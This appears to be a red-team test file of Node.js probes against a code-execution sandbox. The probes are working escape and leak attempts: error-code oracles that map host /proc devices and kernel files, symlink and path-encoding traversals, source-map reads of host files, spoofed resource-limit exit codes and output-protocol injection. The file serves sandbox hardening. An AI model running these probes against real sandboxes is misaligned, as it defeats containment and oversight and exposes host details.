/**
 * Red-team rerun 13 (outside team): new angles, run by
 * `node --import tsx bench/sandbox-redteam.ts bench/redteam/rerun13.ts`.
 * `fs`, `net`, `cp`, `Worker` are imported by the attack module; each body returns its reading.
 */
import type { Attack } from '../sandbox-redteam.js';

/** Counts requests in this process. */
const N = 'const g: any = globalThis; g.n = (g.n ?? 0) + 1;';
/** What the ESM resolver says of a path: dir / file / none (it stats without the permission model). */
const ESM =
  "const esm = async (p: string) => { try { await import(p); return 'loaded'; } catch (e: any) { return e.code === 'ERR_UNSUPPORTED_DIR_IMPORT' ? 'dir' : e.code === 'ERR_MODULE_NOT_FOUND' ? 'none' : e.code === 'ERR_ACCESS_DENIED' ? 'file' : String(e.code); } };";
/** What connect(2) says of a path (path lookup in the kernel, no permission model): ENOENT / EACCES / ECONNREFUSED / ENOTDIR. */
const CONNECT =
  "const conn = (p: string) => new Promise<string>((res) => { const s = net.connect(p); s.on('connect', () => { s.destroy(); res('connected'); }); s.on('error', (e: any) => res(String(e.code))); });";
const IRQ_NAMES = [
  'ttyS0',
  'ACPI:Ged',
  'virtio0-config',
  'virtio3-rx',
  'virtio2-input.0',
  'nvidia',
  'amdgpu',
  'i915',
  'nvme0q0',
  'nvme0q1',
  'mlx5_async0',
  'ens5',
  'eth0',
  'xhci_hcd',
  'ahci[0000:00:1f.2]',
  'i8042',
  'rtc0',
  'timer',
  'acpi',
];

const attacks: Record<string, Attack> = {
  // --- host devices named by procfs entries the bwrap level leaves visible (/proc/driver and /proc/bus are hidden, /proc/irq is not) ---
  esmProcIrqDevices: `${ESM}
    const names = ${JSON.stringify(IRQ_NAMES)};
    const found: string[] = [];
    for (let irq = 0; irq < 64; irq++) {
      if ((await esm('/proc/irq/' + irq)) !== 'dir') continue;
      for (const n of names) if ((await esm('/proc/irq/' + irq + '/' + n)) === 'dir') found.push(irq + '/' + n);
    }
    return JSON.stringify(found);`,
  // the same through connect(2)'s error codes (no module loader involved)
  connectProcIrqDevices: `${CONNECT}
    const names = ${JSON.stringify(IRQ_NAMES)};
    const found: string[] = [];
    for (let irq = 0; irq < 64; irq++) {
      if ((await conn('/proc/irq/' + irq)) === 'ENOENT') continue;
      for (const n of names) { const c = await conn('/proc/irq/' + irq + '/' + n); if (c !== 'ENOENT') found.push(irq + '/' + n + '=' + c); }
    }
    return JSON.stringify(found);`,
  // GPU presence: an IRQ handler named after a GPU driver anywhere in 0..255 (a control name that exists here: ttyS0)
  gpuPresenceViaIrq: `${ESM}
    const out: string[] = [];
    for (let irq = 0; irq < 256; irq++) {
      if ((await esm('/proc/irq/' + irq)) !== 'dir') continue;
      for (const n of ['nvidia', 'amdgpu', 'nouveau', 'ttyS0']) if ((await esm('/proc/irq/' + irq + '/' + n)) === 'dir') out.push(n);
    }
    return out.includes('nvidia') || out.includes('amdgpu') || out.includes('nouveau') ? 'gpu ' + out.join(',') : 'no gpu; control ' + out.join(',');`,
  // block devices and file systems of the host, by name
  esmProcFsBlockDevices: `${ESM}
    const ps = ['/proc/fs/ext4/vda', '/proc/fs/ext4/vdb', '/proc/fs/ext4/sda1', '/proc/fs/ext4/nvme0n1p1', '/proc/fs/ext4/xvda1', '/proc/fs/ext4/dm-0',
      '/proc/fs/nfsd', '/proc/fs/xfs', '/proc/fs/btrfs', '/proc/fs/fscache', '/proc/fs/cifs', '/proc/fs/lockd', '/proc/fs/jbd2/vda-8', '/proc/fs/jbd2/sda1-8'];
    const out: string[] = [];
    for (const p of ps) out.push(p.slice(9) + '=' + (await esm(p)));
    return out.join(' ');`,
  // root-only and kernel-config entries: connect tells EACCES (exists) from ENOENT, past the resolver's stat (which reads a root-only file as missing)
  connectProcKernelEntries: `${CONNECT}
    const ps = ['/proc/tty/driver/serial', '/proc/kallsyms', '/proc/kmsg', '/proc/kpageflags', '/proc/config.gz', '/proc/xen', '/proc/sys/kernel/xen',
      '/proc/sys/fs/binfmt_misc/status', '/proc/sys/fs/binfmt_misc/python3.11', '/proc/sys/kernel/unprivileged_bpf_disabled', '/proc/mtrr', '/proc/asound', '/proc/scsi/scsi', '/proc/mdstat', '/proc/no-such'];
    const out: string[] = [];
    for (const p of ps) out.push(p.slice(6) + '=' + (await conn(p)));
    return out.join(' ');`,
  // --- a limit's reason faked past rerun 12's fix: the runner maps process.exit codes, not the exit code Node uses after an uncaught exception ---
  exitCodeSigxcpuViaExitListener: `${N}
    if (g.n === 3) { process.on('exit', () => { process.exitCode = 128 + 24; }); setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  exitCodeSigxfszViaExitListener: `${N}
    if (g.n === 3) { process.on('exit', () => { process.exitCode = 128 + 25; }); setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  exitCodeOomViaExitListener: `${N}
    if (g.n === 3) { fs.writeSync(2, 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory\\n'); process.on('exit', () => { process.exitCode = 128 + 6; }); setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  exitCodeSigkillViaExitListener: `${N}
    if (g.n === 3) { process.on('exit', () => { process.exitCode = 128 + 9; }); setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  // the same from an unhandled rejection
  exitCodeSigxcpuViaRejection: `${N}
    if (g.n === 3) { process.on('exit', () => { process.exitCode = 152; }); void Promise.reject(new Error('bye')); }
    return 'n' + g.n;`,
  // --- the permission model: relative symlinks (CVE-2025-55130 class), path encodings ---
  relativeSymlinkTraversal: `const out: string[] = [];
    for (const [t, l] of [['../proc/version', 'l1'], ['./../../proc/version', 'l2'], ['/proc/version', 'l3']]) {
      try { fs.symlinkSync(t, l); out.push(l + ' made'); } catch (e: any) { out.push(l + ' ' + e.code); }
      try { out.push(l + ' read ' + fs.readFileSync(l, 'utf8').slice(0, 60)); } catch (e: any) { out.push(l + ' ' + e.code); }
    }
    try { await fs.promises.symlink('../proc/version', 'l4', 'file'); out.push('l4 made'); } catch (e: any) { out.push('l4 ' + e.code); }
    return out.join('; ');`,
  permissionPathEncodings: `const out: string[] = [];
    const tries: any[] = [Buffer.from('/sandbox/../proc/version'), new URL('file:///sandbox/%2e%2e/proc/version'), '/sandbox/./../proc/version', '/sandbox//..//proc/version',
      'file:///proc/version', new URL('file:///proc/version'), '/sandbox/\\\\..\\\\proc/version', '/proc/self/root/proc/version', '/sandbox/env.mjs/../../proc/version'];
    for (const p of tries) { try { out.push('read ' + fs.readFileSync(p, 'utf8').slice(0, 50)); } catch (e: any) { out.push(String(e.code)); } }
    try { const fd = fs.openSync('.', 'r'); out.push('dirfd ' + fd); } catch (e: any) { out.push('dirfd ' + e.code); }
    return out.join('; ');`,
  // --- module resolution past confineModuleResolution ---
  cjsThroughEsmTranslator: `fs.writeFileSync('a.cjs', "let r = []; for (const p of ['/proc/irq/26/ttyS0', '/proc/version', '/no/such']) { try { r.push(require.resolve(p)); } catch (e) { r.push(e.code); } } module.exports = r;");
    const spec = ['', 'sandbox', 'a.cjs'].join('/');
    try { const m: any = await import(spec); return 'loaded ' + JSON.stringify(m.default); } catch (e: any) { return 'error ' + e.code + ' ' + String(e.message).slice(0, 120); }`,
  importMetaResolveRealpath: `const out: string[] = [];
    for (const p of ['/proc/self/cwd/env.mjs', '/proc/self/root/sandbox/env.mjs', '/proc/1/cwd/x', '/proc/self/fd/1', '/proc/self/exe', '/proc/thread-self/cwd/env.mjs']) {
      try { out.push((import.meta as any).resolve(p)); } catch (e: any) { out.push(p + ' ' + e.code); }
    }
    return out.join(' ');`,
  esmPackageImportsToProc: `fs.mkdirSync('pk', { recursive: true });
    fs.writeFileSync('pk/package.json', JSON.stringify({ name: 'pk', type: 'module', imports: { '#v': './../../proc/version', '#w': 'node:fs' }, exports: { './v': '../../proc/version' } }));
    fs.writeFileSync('pk/i.mjs', "export const r = []; for (const s of ['#v', '#w', 'pk/v']) { try { await import(s); r.push(s + ' ok'); } catch (e) { r.push(s + ' ' + e.code); } }");
    const spec = ['', 'sandbox', 'pk', 'i.mjs'].join('/');
    try { const m: any = await import(spec); return JSON.stringify(m.r); } catch (e: any) { return 'error ' + e.code; }`,
  moduleInternalCaches: `const M: any = (process as any).getBuiltinModule('module');
    const r: any = { globalPaths: M.globalPaths, cache: Object.keys(M._cache ?? {}), pathCache: Object.keys(M._pathCache ?? {}).slice(0, 5), relCache: Object.keys(M._relativeResolveCache ?? {}).slice(0, 5),
      nmp: M._nodeModulePaths?.('/sandbox'), sm: typeof M.findSourceMap === 'function' ? String(M.findSourceMap('/sandbox/env.mjs')) : 'none', main: String(require.main?.filename) };
    return JSON.stringify(r);`,
  // --- source maps: a map file outside the sandbox, and original sources read when a stack is mapped ---
  sourceMapFromProc: `(process as any).setSourceMapsEnabled?.(true);
    const M: any = (process as any).getBuiltinModule('module');
    const out: string[] = [];
    fs.writeFileSync('sm1.mjs', 'export const f = () => { throw new Error("x"); };\\n//# sourceMappingURL=file:///proc/version\\n');
    const at = (f: string) => ['', 'sandbox', f].join('/');
    const m1: any = await import(at('sm1.mjs'));
    out.push('map1 ' + JSON.stringify(M.findSourceMap('file:///sandbox/sm1.mjs')?.payload ?? null).slice(0, 80));
    const map = { version: 3, sources: ['file:///proc/version', 'file:///proc/cpuinfo'], names: [], mappings: 'AAAA;AACA' };
    fs.writeFileSync('sm2.mjs', 'export const f = () => {\\nthrow new Error("y"); };\\n//# sourceMappingURL=data:application/json;base64,' + Buffer.from(JSON.stringify(map)).toString('base64') + '\\n');
    const m2: any = await import(at('sm2.mjs'));
    try { m2.f(); } catch (e: any) { out.push('stack2 ' + String(e.stack).split('\\n').slice(0, 3).join(' | ')); }
    try { m1.f(); } catch (e: any) { out.push('stack1 ' + String(e.stack).split('\\n').slice(0, 2).join(' | ')); }
    return out.join(' ;; ').replace(/\\s+/g, ' ');`,
  // --- clocks: file times written with the real time (utimes -1), compared by the kernel / a file Blob ---
  blobMtimeSecondAcrossPause: `${N}
    if (g.n === 2) { fs.writeFileSync('b.txt', 'abcd'); fs.utimesSync('b.txt', -1, -1); g.blob = await (fs as any).openAsBlob('b.txt'); }
    if (g.n === 3) fs.utimesSync('b.txt', -1, -1);
    if (!g.blob) return 'n' + g.n;
    try { return 'n' + g.n + ' ' + (await g.blob.text()); } catch (e: any) { return 'n' + g.n + ' ' + e.name; }`,
  gzipHeaderMtime: `const zlib: any = (process as any).getBuiltinModule('zlib');
    const a = zlib.gzipSync('x'); const b: any = await new Promise((r) => zlib.gzip('x', (_e: any, o: any) => r(o)));
    return [a.readUInt32LE(4), b.readUInt32LE(4), zlib.gunzipSync(a).toString()].join(',');`,
  // --- real timers Node arms by itself: listed by the resource list after servers, watchers and streams are made ---
  activeResourcesAfterServers: `${N}
    const http: any = (process as any).getBuiltinModule('http');
    if (g.n === 1) {
      g.srv = http.createServer({ headersTimeout: 200, requestTimeout: 300, keepAliveTimeout: 100 }, (_q: any, s: any) => s.end('ok'));
      await new Promise((r) => g.srv.listen('h.sock', r));
      g.w = fs.watch('.', () => {});
      g.c = net.connect('h.sock'); await new Promise((r) => g.c.on('connect', r)); g.c.write('GET / HTTP/1.1\\r\\nHost: x\\r\\n');
    }
    for (let i = 0; i < 3; i++) await fs.promises.stat('.');
    const list = process.getActiveResourcesInfo().filter((x) => !/FSReqCallback/.test(x));
    return JSON.stringify([g.c.destroyed, list.sort()]);`,
  // --- the worker: a response holding lone surrogates and U+2028/U+2029, and a tool result of 4 Mi - small ---
  loneSurrogatesAndSeparators: `return 'a\\ud800b\\udfffc\\u2028d\\u2029e\\u0000f\\u001b[2Jg';`,
  // --- protocol: a line written to fd 1 in two halves around the runner's own answer ---
  fd1SplitAroundAnswer: `${N}
    if (g.n === 2) { fs.writeSync(1, '{"id":3,"status":200,"body":'); }
    return 'n' + g.n;`,

  // --- minimal reproductions ---
  // two host paths of the host's /proc/irq read differently: a serial port's IRQ handler exists here, a GPU driver's does not
  procIrqMinimal: `const r: string[] = [];
    for (const p of ['/proc/irq/26/ttyS0', '/proc/irq/26/nvidia']) { try { await import(p); r.push('loaded'); } catch (e: any) { r.push(e.code); } }
    return r.join(' ');`,
  // the host's root block device, by name (vda here, not sda/nvme)
  procFsBlockMinimal: `const r: string[] = [];
    for (const p of ['/proc/fs/ext4/vda', '/proc/fs/ext4/nvme0n1p1']) { try { await import(p); r.push('loaded'); } catch (e: any) { r.push(e.code); } }
    return r.join(' ');`,
  // an uncaught exception in a callback: reported as the wallMs limit (after 10 s) instead of a crash at once
  uncaughtThrowIsTimeout: `${N}
    if (g.n === 3) process.nextTick(() => { throw new Error('a bug in a callback'); });
    return 'n' + g.n;`,
  unhandledRejectionIsTimeout: `${N}
    if (g.n === 3) void Promise.reject(new Error('a forgotten await'));
    return 'n' + g.n;`,
  // import.meta.resolve: a missing host path comes back as a URL, an existing one (realpath) is refused
  importMetaResolveOracle: `const r: string[] = [];
    for (const p of ['/proc/fs/ext4/vda/options', '/proc/fs/ext4/sda/options']) { try { r.push((import.meta as any).resolve(p)); } catch (e: any) { r.push(e.code); } }
    return r.join(' ');`,
  // bind(2) of a unix socket under a host path: EACCES / EROFS / ENOENT by what exists
  bindProcOracle: `const r: string[] = [];
    for (const p of ['/proc/irq/26/ttyS0/s', '/proc/irq/26/nvidia/s', '/proc/fs/ext4/vda/s', '/proc/fs/ext4/sda/s']) {
      r.push(await new Promise<string>((res) => { const s = net.createServer(); s.on('error', (e: any) => res(e.code)); s.listen(p, () => { s.close(); res('listening'); }); }));
    }
    return r.join(' ');`,

  // getaddrinfo in the thread pool (no resolv.conf, IP sockets refused): does a lookup started at one request complete across the pause?
  dnsLookupAcrossPause: `${N}
    const dns: any = (process as any).getBuiltinModule('dns');
    if (g.n === 2) { g.res = []; for (const h of ['example.com', 'localhost', 'sandbox']) dns.lookup(h, (e: any, a: any) => g.res.push(h + ':' + (e ? e.code : a))); }
    return JSON.stringify(g.res ?? []);`,
};

export default attacks;
